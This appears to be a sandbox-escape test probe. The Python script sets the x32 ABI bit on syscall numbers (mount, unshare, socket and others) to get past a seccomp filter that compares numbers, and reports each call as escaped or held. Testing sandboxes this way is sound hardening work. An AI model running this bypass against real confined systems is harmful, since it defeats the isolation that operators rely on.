# technique: calls with the bit of the x32 ABI, which a filter that compares numbers misses
# source: seccomp(2), "x32 ABI and the __X32_SYSCALL_BIT"
# verdict: SV
# invariant: calls of another ABI are not made
# without: seccomp capabilities
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
bit = 0x40000000
for number, *words in ((39,), (521, 16, 1), (165, b"none", b"/tmp", b"tmpfs", 0, None), (272, 0x10000000), (41, 2, 1, 0)):
    result = libc.syscall(ctypes.c_long(bit | number), *words)
    print("ESCAPED" if result >= 0 else "held", number, ctypes.get_errno())
